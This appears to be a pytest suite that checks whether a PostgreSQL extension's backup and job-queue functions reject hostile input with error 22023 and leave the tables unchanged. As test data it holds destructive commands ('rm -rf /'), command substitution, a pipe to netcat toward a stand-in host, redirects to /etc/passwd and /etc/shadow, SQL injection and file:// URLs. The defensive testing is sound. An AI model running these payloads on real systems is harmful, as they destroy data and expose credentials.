"""Hostile input to every public function: a clear 22023 error naming the parameter, with a HINT,
and the tables exactly as they were. Plus the guide's loose-but-valid forms, which must work.

Validation failures write nothing, so the table of cases shares one database (cloned from the
session's template like the `db` fixture's) and compares the tables before and after each call.
"""

from __future__ import annotations

import json
import random
import re
import secrets

import psycopg2
import pytest
from pytest_postgresql.janitor import DatabaseJanitor

from helpers.db import make_dsn, query, scalar

REGISTERED = object()  # stands for the id of a backup registered by the `seeded` fixture
UNKNOWN_ID = "00000000-0000-4000-8000-000000000000"

PGBACKREST = "SELECT pggit.backup_pgbackrest(%s, %s, %s, %s::jsonb)"
BARMAN = "SELECT pggit.backup_barman(%s, %s, %s::jsonb)"
PG_DUMP = "SELECT pggit.backup_pg_dump(%s, %s, %s, %s, %s::jsonb)"
BASEBACKUP = "SELECT pggit.backup_pg_basebackup(%s, %s, %s::jsonb)"
ENQUEUE = "SELECT pggit.enqueue_backup_job(%s::uuid, %s, %s, %s, %s::jsonb)"
REGISTER = "SELECT pggit.register_backup(%s, %s, %s, %s, %s, %s, false, %s::jsonb)"
CLAIM = "SELECT * FROM pggit.claim_backup_job(%s, %s::text[], %s)"
LIST = "SELECT * FROM pggit.list_backups(%s, %s, %s, %s, %s)"


def opts(**options) -> str:
    return json.dumps({key.replace("__", "-"): value for key, value in options.items()})


def pgbackrest(backup_type="full", branch="main", stanza="main", options="{}"):
    return PGBACKREST, (backup_type, branch, stanza, options)


def barman(server="pg-main", branch="main", options="{}"):
    return BARMAN, (server, branch, options)


def pg_dump(branch="main", schema=None, fmt="custom", path="/backups", options="{}"):
    return PG_DUMP, (branch, schema, fmt, path, options)


def basebackup(branch="main", path="/backups", options="{}"):
    return BASEBACKUP, (branch, path, options)


def enqueue(
    backup_id=REGISTERED, command="my-script.sh --output /backups", tool="custom", max_attempts=3, metadata="{}"
):
    return ENQUEUE, (backup_id, command, tool, max_attempts, metadata)


def register(
    name="custom-001",
    backup_type="full",
    tool="custom",
    location="s3://bucket/custom-001",
    commit=None,
    branch="main",
    metadata="{}",
):
    return REGISTER, (name, backup_type, tool, location, commit, branch, metadata)


def claim(worker="w1", tools=None, lease=60):
    return CLAIM, (worker, tools, lease)


def list_backups(branch=None, commit=None, status=None, limit=100, offset=0):
    return LIST, (branch, commit, status, limit, offset)


def case(case_id, call, param, hint_part=None):
    statement, args = call
    return pytest.param(statement, args, param, hint_part, id=case_id)


CASES = [
    # --- backup_pgbackrest ---
    case("pgbackrest-type-weekly", pgbackrest(backup_type="weekly"), "p_backup_type", "full, incr, diff"),
    case("pgbackrest-type-null", pgbackrest(backup_type=None), "p_backup_type"),
    case("pgbackrest-type-with-semicolon", pgbackrest(backup_type="full; rm -rf /"), "p_backup_type"),
    case("pgbackrest-branch-unknown", pgbackrest(branch="nope"), "p_branch_name", "main"),
    case("pgbackrest-stanza-semicolon", pgbackrest(stanza="main;id"), "p_stanza", "letters, digits"),
    case("pgbackrest-stanza-command-substitution", pgbackrest(stanza="$(id)"), "p_stanza"),
    case("pgbackrest-stanza-backticks", pgbackrest(stanza="`id`"), "p_stanza"),
    case("pgbackrest-stanza-space", pgbackrest(stanza="my stanza"), "p_stanza"),
    case("pgbackrest-stanza-single-quote", pgbackrest(stanza="ma'in"), "p_stanza"),
    case("pgbackrest-stanza-double-quote", pgbackrest(stanza='ma"in'), "p_stanza"),
    case("pgbackrest-stanza-trailing-newline", pgbackrest(stanza="main\n"), "p_stanza"),
    case("pgbackrest-stanza-newline-command", pgbackrest(stanza="main\nid"), "p_stanza"),
    case("pgbackrest-stanza-pipe", pgbackrest(stanza="main|cat"), "p_stanza"),
    case("pgbackrest-stanza-redirect", pgbackrest(stanza="main>/etc/passwd"), "p_stanza"),
    case("pgbackrest-stanza-500-chars", pgbackrest(stanza="a" * 500), "p_stanza"),
    case("pgbackrest-stanza-64-chars", pgbackrest(stanza="a" * 64), "p_stanza"),
    case("pgbackrest-stanza-option-injection", pgbackrest(stanza="--config=/tmp/x"), "p_stanza"),
    case("pgbackrest-stanza-leading-dash", pgbackrest(stanza="-x"), "p_stanza"),
    case("pgbackrest-stanza-dot-dot", pgbackrest(stanza="../etc"), "p_stanza"),
    case("pgbackrest-stanza-empty", pgbackrest(stanza=""), "p_stanza"),
    case("pgbackrest-stanza-null", pgbackrest(stanza=None), "p_stanza"),
    case("pgbackrest-options-array", pgbackrest(options="[]"), "p_options", "allowed keys"),
    case("pgbackrest-options-string", pgbackrest(options='"repo=1"'), "p_options", "allowed keys"),
    case("pgbackrest-options-json-null", pgbackrest(options="null"), "p_options"),
    case("pgbackrest-options-unknown-key", pgbackrest(options=opts(config="/tmp/x")), "p_options", "repo"),
    case("pgbackrest-repo-0", pgbackrest(options=opts(repo=0)), "p_options.repo", "1 to 256"),
    case("pgbackrest-repo-257", pgbackrest(options=opts(repo=257)), "p_options.repo", "1 to 256"),
    case("pgbackrest-repo-abc", pgbackrest(options=opts(repo="abc")), "p_options.repo"),
    case("pgbackrest-repo-fraction", pgbackrest(options=opts(repo=1.5)), "p_options.repo"),
    case("pgbackrest-repo-boolean", pgbackrest(options=opts(repo=True)), "p_options.repo"),
    case("pgbackrest-repo-with-command", pgbackrest(options=opts(repo="1; rm -rf /")), "p_options.repo"),
    case("pgbackrest-type-disagrees", pgbackrest(options=opts(type="incr")), "p_options.type"),
    case("pgbackrest-option-type-unknown", pgbackrest(options=opts(type="weekly")), "p_options.type"),
    # --- backup_barman ---
    case("barman-server-null", barman(server=None), "p_server_name"),
    case("barman-server-all", barman(server="all"), "p_server_name", 'not "all"'),
    case("barman-server-ALL", barman(server="ALL"), "p_server_name"),
    case("barman-server-pipe", barman(server="pg|cat"), "p_server_name"),
    case("barman-server-parent-dir", barman(server="../x"), "p_server_name"),
    case("barman-server-leading-dash", barman(server="-x"), "p_server_name"),
    case("barman-server-option-injection", barman(server="--config=/tmp/x"), "p_server_name"),
    case("barman-server-newline", barman(server="pg\nall"), "p_server_name"),
    case("barman-branch-null", barman(branch=None), "p_branch_name"),
    case("barman-wait-maybe", barman(options=opts(wait="maybe")), "p_options.wait", "true or false"),
    case("barman-wait-number", barman(options=opts(wait=3)), "p_options.wait"),
    case(
        "barman-reuse-backup-sideways",
        barman(options=opts(reuse__backup="sideways")),
        "p_options.reuse-backup",
        "off, copy, link",
    ),
    case("barman-reuse-backup-boolean", barman(options=opts(reuse__backup=True)), "p_options.reuse-backup"),
    case("barman-options-unknown-key", barman(options=opts(immediate=True)), "p_options", "wait"),
    # --- backup_pg_dump ---
    case("pg_dump-branch-unknown", pg_dump(branch="no-such-branch"), "p_branch_name"),
    case("pg_dump-branch-null", pg_dump(branch=None), "p_branch_name"),
    case("pg_dump-branch-sql-injection", pg_dump(branch="main' OR '1'='1"), "p_branch_name"),
    case("pg_dump-schema-semicolon", pg_dump(schema="public;drop"), "p_schema"),
    case("pg_dump-schema-quote", pg_dump(schema='public"'), "p_schema"),
    case("pg_dump-schema-missing", pg_dump(schema="no_such_schema"), "p_schema"),
    case("pg_dump-schema-empty", pg_dump(schema=""), "p_schema"),
    case("pg_dump-schema-long", pg_dump(schema="s" * 100), "p_schema"),
    case("pg_dump-format-zip", pg_dump(fmt="zip"), "p_format", "custom, directory, tar, plain"),
    case("pg_dump-format-null", pg_dump(fmt=None), "p_format"),
    case("pg_dump-path-relative", pg_dump(path="backups"), "p_output_path", "absolute"),
    case("pg_dump-path-dot-dot", pg_dump(path="/backups/../etc"), "p_output_path", ".."),
    case("pg_dump-path-ends-dot-dot", pg_dump(path="/backups/.."), "p_output_path"),
    case("pg_dump-path-newline", pg_dump(path="/backups\n/x"), "p_output_path"),
    case("pg_dump-path-dollar", pg_dump(path="/backups/$HOME"), "p_output_path"),
    case("pg_dump-path-command-substitution", pg_dump(path="/backups/$(id)"), "p_output_path"),
    case("pg_dump-path-backticks", pg_dump(path="/backups/`id`"), "p_output_path"),
    case("pg_dump-path-space", pg_dump(path="/my backups"), "p_output_path"),
    case("pg_dump-path-semicolon", pg_dump(path="/backups;rm"), "p_output_path"),
    case("pg_dump-path-quote", pg_dump(path="/backups/'x'"), "p_output_path"),
    case("pg_dump-path-tilde-home", pg_dump(path="~/backups"), "p_output_path"),
    case("pg_dump-path-null", pg_dump(path=None), "p_output_path"),
    case("pg_dump-path-empty", pg_dump(path=""), "p_output_path"),
    case("pg_dump-path-2000-chars", pg_dump(path="/" + "a" * 1999), "p_output_path"),
    case(
        "pg_dump-compression-level-10",
        pg_dump(options=opts(compression_level=10)),
        "p_options.compression_level",
        "0 to 9",
    ),
    case(
        "pg_dump-compression-level-minus-1", pg_dump(options=opts(compression_level=-1)), "p_options.compression_level"
    ),
    case(
        "pg_dump-compression-level-with-command",
        pg_dump(options=opts(compression_level="9; rm")),
        "p_options.compression_level",
    ),
    case("pg_dump-compression-level-array", pg_dump(options=opts(compression_level=[])), "p_options.compression_level"),
    case(
        "pg_dump-compression-level-object", pg_dump(options=opts(compression_level={})), "p_options.compression_level"
    ),
    case(
        "pg_dump-compression-level-empty-string",
        pg_dump(options=opts(compression_level="")),
        "p_options.compression_level",
    ),
    case(
        "pg_dump-compression-level-with-tar",
        pg_dump(fmt="tar", options=opts(compression_level=5)),
        "p_options.compression_level",
    ),
    case("pg_dump-jobs-0", pg_dump(fmt="directory", options=opts(jobs=0)), "p_options.jobs", "1 to 64"),
    case("pg_dump-jobs-65", pg_dump(fmt="directory", options=opts(jobs=65)), "p_options.jobs"),
    case("pg_dump-jobs-with-tar", pg_dump(fmt="tar", options=opts(jobs=4)), "p_options.jobs", "directory"),
    case("pg_dump-jobs-with-plain", pg_dump(fmt="plain", options=opts(jobs=4)), "p_options.jobs"),
    case("pg_dump-max-attempts-0", pg_dump(options=opts(max_attempts=0)), "p_options.max_attempts", "1 to 100"),
    case("pg_dump-max-attempts-negative", pg_dump(options=opts(max_attempts="-1")), "p_options.max_attempts"),
    case("pg_dump-priority-high", pg_dump(options=opts(priority="high")), "p_options.priority"),
    case("pg_dump-timeout-0", pg_dump(options=opts(timeout_seconds=0)), "p_options.timeout_seconds"),
    case("pg_dump-webhook-ftp", pg_dump(options=opts(webhook_url="ftp://x")), "p_options.webhook_url", "http"),
    case(
        "pg_dump-webhook-javascript", pg_dump(options=opts(webhook_url="javascript:alert(1)")), "p_options.webhook_url"
    ),
    case("pg_dump-webhook-space", pg_dump(options=opts(webhook_url="http://a b")), "p_options.webhook_url"),
    case("pg_dump-webhook-newline", pg_dump(options=opts(webhook_url="http://x\n")), "p_options.webhook_url"),
    case("pg_dump-webhook-number", pg_dump(options=opts(webhook_url=123)), "p_options.webhook_url"),
    case("pg_dump-webhook-file", pg_dump(options=opts(webhook_url="file:///etc/passwd")), "p_options.webhook_url"),
    case("pg_dump-webhook-backticks", pg_dump(options=opts(webhook_url="http://x/`id`")), "p_options.webhook_url"),
    case(
        "pg_dump-webhook-too-long",
        pg_dump(options=opts(webhook_url="https://x/" + "a" * 3000)),
        "p_options.webhook_url",
    ),
    case("pg_dump-notify-yes", pg_dump(options=opts(notify_on_success="yes")), "p_options.notify_on_success"),
    case("pg_dump-options-unknown-key", pg_dump(options=opts(file="/etc/passwd")), "p_options", "compression_level"),
    # --- backup_pg_basebackup ---
    case("basebackup-path-dot-dot", basebackup(path="/backups/../x"), "p_output_path"),
    case("basebackup-path-relative", basebackup(path="x"), "p_output_path"),
    case("basebackup-gzip-with-plain", basebackup(options=opts(compression="gzip")), "p_options.compression", "tar"),
    case(
        "basebackup-compression-bzip2",
        basebackup(options=opts(format="tar", compression="bzip2")),
        "p_options.compression",
        "gzip, lz4, zstd",
    ),
    case(
        "basebackup-level-without-compression",
        basebackup(options=opts(compression_level=5)),
        "p_options.compression_level",
    ),
    case(
        "basebackup-gzip-level-10",
        basebackup(options=opts(format="tar", compression="gzip", compression_level=10)),
        "p_options.compression_level",
    ),
    case(
        "basebackup-checkpoint-slow",
        basebackup(options=opts(checkpoint="slow")),
        "p_options.checkpoint",
        "fast, spread",
    ),
    case("basebackup-format-zip", basebackup(options=opts(format="zip")), "p_options.format"),
    case("basebackup-options-unknown-key", basebackup(options=opts(wal_method="none")), "p_options", "checkpoint"),
    # --- enqueue_backup_job ---
    case("enqueue-backup-id-null", enqueue(backup_id=None), "p_backup_id"),
    case("enqueue-backup-id-unknown", enqueue(backup_id=UNKNOWN_ID), "p_backup_id"),
    case("enqueue-command-semicolon", enqueue(command="run.sh; rm -rf /"), "p_command", "without a shell"),
    case("enqueue-command-pipe", enqueue(command="run.sh | nc evil 80"), "p_command"),
    case("enqueue-command-and", enqueue(command="run.sh && rm -rf /"), "p_command"),
    case("enqueue-command-background", enqueue(command="run.sh &"), "p_command"),
    case("enqueue-command-substitution", enqueue(command="run.sh $(id)"), "p_command"),
    case("enqueue-command-variable", enqueue(command="run.sh ${HOME}"), "p_command"),
    case("enqueue-command-backticks", enqueue(command="run.sh `id`"), "p_command"),
    case("enqueue-command-redirect-out", enqueue(command="run.sh > /etc/passwd"), "p_command"),
    case("enqueue-command-redirect-in", enqueue(command="run.sh < /etc/shadow"), "p_command"),
    case("enqueue-command-backslash", enqueue(command="run.sh \\; id"), "p_command"),
    case("enqueue-command-newline", enqueue(command="run.sh\nrm -rf /"), "p_command"),
    case("enqueue-command-carriage-return", enqueue(command="run.sh\r"), "p_command"),
    case("enqueue-command-tab", enqueue(command="run.sh\t--x"), "p_command"),
    case("enqueue-command-empty", enqueue(command=""), "p_command"),
    case("enqueue-command-blank", enqueue(command="   "), "p_command"),
    case("enqueue-command-null", enqueue(command=None), "p_command"),
    case("enqueue-command-5000-chars", enqueue(command="run.sh " + "a" * 5000), "p_command"),
    case("enqueue-tool-pg_dump", enqueue(tool="pg_dump"), "p_tool", "custom"),
    case("enqueue-tool-bash", enqueue(tool="bash"), "p_tool", "custom"),
    case("enqueue-tool-null", enqueue(tool=None), "p_tool"),
    case("enqueue-max-attempts-0", enqueue(max_attempts=0), "p_max_attempts", "1 to 100"),
    case("enqueue-max-attempts-minus-1", enqueue(max_attempts=-1), "p_max_attempts"),
    case("enqueue-max-attempts-null", enqueue(max_attempts=None), "p_max_attempts"),
    case("enqueue-max-attempts-101", enqueue(max_attempts=101), "p_max_attempts"),
    case("enqueue-metadata-array", enqueue(metadata="[]"), "p_metadata"),
    case("enqueue-metadata-string", enqueue(metadata='"nightly"'), "p_metadata"),
    case("enqueue-metadata-priority-word", enqueue(metadata=opts(priority="high")), "p_metadata.priority"),
    case("enqueue-metadata-webhook-ftp", enqueue(metadata=opts(webhook_url="ftp://x")), "p_metadata.webhook_url"),
    # --- register_backup ---
    case("register-type-weekly", register(backup_type="weekly"), "p_backup_type", "full, incremental"),
    case("register-name-space", register(name="my backup"), "p_backup_name"),
    case("register-name-semicolon", register(name="x;rm"), "p_backup_name"),
    case("register-name-leading-dash", register(name="-x"), "p_backup_name"),
    case("register-name-null", register(name=None), "p_backup_name"),
    case("register-tool-shell", register(tool="Bash;"), "p_backup_tool"),
    case("register-location-newline", register(location="s3://bucket/x\nrm -rf /"), "p_location"),
    case("register-location-null", register(location=None), "p_location"),
    case("register-location-3000-chars", register(location="s3://bucket/" + "a" * 3000), "p_location"),
    case("register-commit-unknown", register(commit="deadbeef", branch=None), "p_commit_hash"),
    case("register-branch-unknown", register(branch="nope"), "p_branch_name"),
    case("register-metadata-array", register(metadata="[1, 2]"), "p_metadata"),
    # --- claim_backup_job ---
    case("claim-worker-spaces", claim(worker="worker 1"), "p_worker_id"),
    case("claim-worker-null", claim(worker=None), "p_worker_id"),
    case("claim-worker-empty", claim(worker=""), "p_worker_id"),
    case("claim-worker-semicolon", claim(worker="w1;id"), "p_worker_id"),
    case("claim-worker-newline", claim(worker="w1\n"), "p_worker_id"),
    case("claim-lease-0", claim(lease=0), "p_lease_seconds", "1 to 86400"),
    case("claim-lease-null", claim(lease=None), "p_lease_seconds"),
    case("claim-lease-too-long", claim(lease=86401), "p_lease_seconds"),
    case("claim-tools-bash", claim(tools=["pg_dump", "bash"]), "p_tools", "pgbackrest"),
    case("claim-tools-null-element", claim(tools=["pg_dump", None]), "p_tools"),
    # --- list_backups ---
    case("list-branch-unknown", list_backups(branch="nope"), "p_branch_name"),
    case("list-commit-unknown", list_backups(commit="deadbeef"), "p_commit_hash"),
    case("list-status-done", list_backups(status="done"), "p_status", "in_progress, completed"),
    case("list-limit-0", list_backups(limit=0), "p_limit", "1 to 10000"),
    case("list-limit-null", list_backups(limit=None), "p_limit"),
    case("list-limit-too-large", list_backups(limit=10001), "p_limit"),
    case("list-offset-negative", list_backups(offset=-1), "p_offset"),
]


@pytest.fixture(scope="module")
def shared_dsn(postgresql_server):
    """A database of this module's own, cloned from the session's schema template."""
    janitor = DatabaseJanitor(
        user=postgresql_server.user,
        host=postgresql_server.host,
        port=postgresql_server.port,
        password=postgresql_server.password,
        dbname=f"pggit_hostile_{secrets.token_hex(4)}",
        template_dbname=postgresql_server.template_dbname,
    )
    with janitor:
        yield make_dsn(janitor.host, janitor.port, janitor.user, janitor.dbname, janitor.password)


@pytest.fixture
def conn(shared_dsn):
    connection = psycopg2.connect(shared_dsn)
    connection.autocommit = True
    yield connection
    connection.close()


@pytest.fixture(scope="module")
def seeded(shared_dsn):
    """A registered backup (for enqueue cases) and a queued job (which a bad claim must not take)."""
    connection = psycopg2.connect(shared_dsn)
    connection.autocommit = True
    try:
        registered = scalar(
            connection,
            "SELECT pggit.register_backup('seed-custom', 'full', 'custom', 's3://bucket/seed', NULL, 'main')",
        )
        scalar(connection, "SELECT pggit.backup_pgbackrest('full', 'main', 'seed')")
    finally:
        connection.close()
    return registered


def table_state(conn):
    """Row counts and a digest of every row of backups and backup_jobs."""
    return query(
        conn,
        """
        SELECT (SELECT count(*) FROM pggit.backups) AS backups,
               (SELECT count(*) FROM pggit.backup_jobs) AS jobs,
               (SELECT md5(coalesce(string_agg(b::text, '|' ORDER BY b.backup_id), '')) FROM pggit.backups b)
                   AS backups_digest,
               (SELECT md5(coalesce(string_agg(j::text, '|' ORDER BY j.job_id), '')) FROM pggit.backup_jobs j)
                   AS jobs_digest""",
    )[0]


def execute(conn, statement, args=None):
    with conn.cursor() as cur:
        cur.execute(statement, args)
        return cur.fetchall() if cur.description else None


@pytest.mark.parametrize("statement, args, param, hint_part", CASES)
def test_hostile_input_is_refused_with_22023_naming_the_parameter_and_writes_nothing(
    conn, seeded, statement, args, param, hint_part
):
    args = tuple(seeded if arg is REGISTERED else arg for arg in args)
    before = table_state(conn)
    with pytest.raises(psycopg2.Error) as caught:
        execute(conn, statement, args)
    error = caught.value
    assert error.pgcode == "22023", error.pgerror
    assert param in error.diag.message_primary
    assert (error.diag.column_name or "").startswith(param)
    assert (error.diag.message_hint or "").strip(), "a HINT with what is allowed"
    if hint_part:
        assert hint_part in error.diag.message_hint
    assert table_state(conn) == before


@pytest.mark.parametrize(
    "statement, sqlstate",
    [
        ("SELECT pggit.backup_pg_dump('main', NULL, 'custom', '/backups/' || chr(0))", "54000"),
        (
            """SELECT pggit.backup_pg_dump('main', NULL, 'custom', '/backups', '{"webhook_url": "http://x/\\u0000"}')""",
            "22P05",
        ),
    ],
    ids=["nul-in-path", "nul-in-json-option"],
)
def test_nul_characters_are_refused_before_reaching_any_function(conn, statement, sqlstate):
    before = table_state(conn)
    with pytest.raises(psycopg2.Error) as caught:
        execute(conn, statement)
    assert caught.value.pgcode == sqlstate
    with pytest.raises(ValueError):  # the client refuses to send one at all
        execute(conn, "SELECT pggit.backup_pgbackrest('full', 'main', %s)", ("main\x00",))
    assert table_state(conn) == before


def test_unicode_space_around_an_integer_option_is_a_22023_error_naming_the_option(conn):
    before = table_state(conn)
    try:
        execute(conn, PG_DUMP, pg_dump(options=opts(compression_level="\u20039"))[1])
        failure = ("ok", None)
    except psycopg2.Error as exc:
        failure = (exc.pgcode, exc.diag.column_name)
    assert table_state(conn) == before
    # SCHEMA BUG (schema/003_validation.sql, pggit._opt_int): `\s` in the pattern matches Unicode spaces
    # (here U+2003) but the numeric cast does not accept them, so the call fails with 22P02 "invalid
    # input syntax for type numeric" instead of 22023 naming p_options.compression_level with a HINT.
    assert failure == ("22023", "p_options.compression_level"), (
        f"an EM SPACE before a digit string gave (sqlstate, column) = {failure}"
    )


# --- the guide's loose-but-valid forms --------------------------------------------------------------


def spec_params(conn, backup_id):
    return scalar(conn, "SELECT spec -> 'params' FROM pggit.backup_jobs WHERE backup_id = %s", (backup_id,))


def command_of(conn, backup_id):
    return scalar(conn, "SELECT command FROM pggit.backup_jobs WHERE backup_id = %s", (backup_id,))


def test_compression_level_given_as_a_string_is_stored_as_a_number(conn):
    backup_id = scalar(conn, *pg_dump(options=opts(compression_level="9")))
    assert (
        scalar(
            conn,
            "SELECT spec #> '{params,compression_level}' FROM pggit.backup_jobs WHERE backup_id = %s",
            (backup_id,),
        )
        == 9
    )
    assert (
        scalar(
            conn,
            "SELECT jsonb_typeof(spec #> '{params,compression_level}') FROM pggit.backup_jobs WHERE backup_id = %s",
            (backup_id,),
        )
        == "number"
    )
    assert "--compress=9" in command_of(conn, backup_id).split()


def test_jobs_with_the_custom_format_is_kept_with_a_notice(conn):
    conn.notices.clear()
    backup_id = scalar(conn, *pg_dump(fmt="custom", options=opts(jobs="4")))
    assert any("jobs=4" in notice and "directory" in notice for notice in conn.notices), conn.notices
    assert spec_params(conn, backup_id)["jobs"] == 4
    assert "--jobs=4" not in command_of(conn, backup_id), "pg_dump cannot dump the custom format in parallel"


def test_jobs_with_the_directory_format_becomes_pg_dump_jobs(conn):
    backup_id = scalar(conn, *pg_dump(fmt="directory", options=opts(jobs="4")))
    assert "--jobs=4" in command_of(conn, backup_id).split()
    assert spec_params(conn, backup_id)["jobs"] == 4


def test_barman_wait_true_stays_true(conn):
    backup_id = scalar(conn, *barman(options=opts(wait=True)))
    assert spec_params(conn, backup_id)["wait"] is True
    assert "--wait" in command_of(conn, backup_id).split()


def test_barman_reuse_backup_incremental_becomes_link_with_a_notice(conn):
    conn.notices.clear()
    backup_id = scalar(conn, *barman(options=opts(reuse__backup="incremental")))
    assert spec_params(conn, backup_id)["reuse_backup"] == "link"
    assert any("link" in notice for notice in conn.notices), conn.notices
    assert "--reuse-backup=link" in command_of(conn, backup_id).split()


def test_output_path_is_normalised(conn):
    backup_id = scalar(conn, *pg_dump(path="/backups//daily/./x/"))
    assert spec_params(conn, backup_id)["output_dir"] == "/backups/daily/x"


# --- property: the stanza is either a strict identifier or a 22023 error --------------------------

STANZA_PATTERN = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,62}")
SAFE = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-"
DANGEROUS = list(";|&$`'\"\\<>(){}[]*?~!#%^ \t\n\r/=,:@+") + [
    "..",
    "--",
    "$(id)",
    "`id`",
    "é",
    "\u2028",
    "\u00a0",
    "\u200b",
    "\U0001f4a3",
]


def random_stanzas(count=200, seed=20240611):
    rng = random.Random(seed)
    stanzas = []
    for i in range(count):
        chars = [rng.choice(SAFE) for _ in range(rng.randint(1, 70))]
        if i % 2:  # half of them carry one to three dangerous pieces
            for _ in range(rng.randint(1, 3)):
                chars.insert(rng.randint(0, len(chars)), rng.choice(DANGEROUS))
        stanzas.append("".join(chars))
    return stanzas


def test_random_stanzas_are_accepted_only_when_they_match_the_identifier_pattern(conn):
    accepted, refused, wrong = 0, 0, []
    for stanza in random_stanzas():
        valid = STANZA_PATTERN.fullmatch(stanza) is not None
        try:
            backup_id = scalar(conn, "SELECT pggit.backup_pgbackrest('full', 'main', %s)", (stanza,))
        except psycopg2.Error as exc:
            if valid or exc.pgcode != "22023" or "p_stanza" not in exc.diag.message_primary:
                wrong.append((stanza, exc.pgcode, exc.diag.message_primary))
            refused += 1
            continue
        if not valid or spec_params(conn, backup_id)["stanza"] != stanza:
            wrong.append((stanza, "accepted", spec_params(conn, backup_id)))
        accepted += 1
    assert wrong == []
    assert accepted >= 30 and refused >= 100, (accepted, refused)
